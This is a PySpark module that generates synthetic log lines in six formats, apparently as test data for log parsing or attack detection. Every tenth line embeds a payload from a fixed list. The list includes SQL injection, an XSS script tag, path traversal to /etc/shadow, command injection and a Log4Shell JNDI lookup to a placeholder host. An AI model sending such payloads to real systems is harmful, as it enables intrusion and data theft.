"""Deterministic log lines made from the ``events`` table: six formats, one line in ten with an attack."""

from __future__ import annotations

from pyspark.sql import Column, DataFrame
from pyspark.sql import functions as F

PAYLOADS = (
    "1%20or%201=1", "<script>alert(1)</script>", "../../etc/shadow", "|cat%20x", "http://localhost/admin",
    "${jndi:ldap://x.test/a}", "a;drop%20table%20t", "javascript:run()", "file://x", "a--union",
)
AGENTS = ("Mozilla/5.0 (Windows NT 10.0) Firefox/118.0", "Mozilla/5.0 (X11) AppleWebKit Chrome/120.0", "curl/8.0", "Mozilla/5.0 (iPhone) Safari/605")
LEVELS = ("INFO", "WARNING", "ERROR", "CRITICAL", "debug", "notice")
TENANTS = ("acme", "techcorp", "finance", "default")


def _pick(values: tuple[str, ...], n: Column) -> Column:
    return F.element_at(F.array(*(F.lit(v) for v in values)), (n % len(values)).cast("int") + 1)


def log_lines(events: DataFrame) -> DataFrame:
    """event_id, event_ts, value (the line)."""
    i, user = F.col("event_id"), F.col("user_id")
    ts = F.col("ts").cast("timestamp")
    payload = F.when(i % 10 == 0, _pick(PAYLOADS, F.floor(i / 10))).otherwise(F.concat(F.lit("item-"), (i % 50).cast("string")))
    ip = F.concat(F.lit("203.0."), (user % 256).cast("string"), F.lit("."), (i % 7 + 1).cast("string"))
    iso, web = F.date_format(ts, "yyyy-MM-dd'T'HH:mm:ss'Z'"), F.date_format(ts, "dd/MMM/yyyy:HH:mm:ss")
    kind, level, agent = F.col("event_type"), _pick(LEVELS, i), _pick(AGENTS, user)
    request = F.concat(ip, F.lit(" - u"), user.cast("string"), F.lit(" ["), web, F.lit(' +0000] "GET /app//'), kind, F.lit("/?q="), payload, F.lit('&p=2 HTTP/1.1" '), (F.lit(200) + i % 4 * 100).cast("string"), F.lit(" "), (i % 5000).cast("string"))
    line = (
        F.when(i % 6 == 0, F.concat(request, F.lit(' "-" "'), agent, F.lit('"')))
        .when(i % 6 == 1, request)
        .when(
            i % 6 == 2,
            F.concat(F.lit('{"@timestamp": "'), iso, F.lit('", "severity": "'), level, F.lit('", "msg": "'), payload, F.lit('", "client_ip": "'), ip, F.lit('", "user_agent": "'), agent, F.lit('", "method": "post", "url": "/api/'), kind, F.lit('", "status": '), (F.lit(200) + i % 5 * 100).cast("string"), F.lit(', "tenant": "'), _pick(TENANTS, user), F.lit('"}')),
        )
        .when(i % 6 == 3, F.concat_ws(" ", iso, F.concat(F.lit("u"), user.cast("string")), F.lit("admin"), F.concat(F.lit("bucket/"), payload), kind, F.lit("success")))
        .when(i % 6 == 4, F.concat_ws(" ", iso, level, F.lit("pod-1"), kind, F.concat(payload, F.lit("@"), ip)))
        .otherwise(F.concat_ws(" ", iso, F.lit("svc-1"), F.lit("production"), F.lit("SELECT"), payload))
    )
    return events.select("event_id", ts.alias("event_ts"), line.alias("value"))
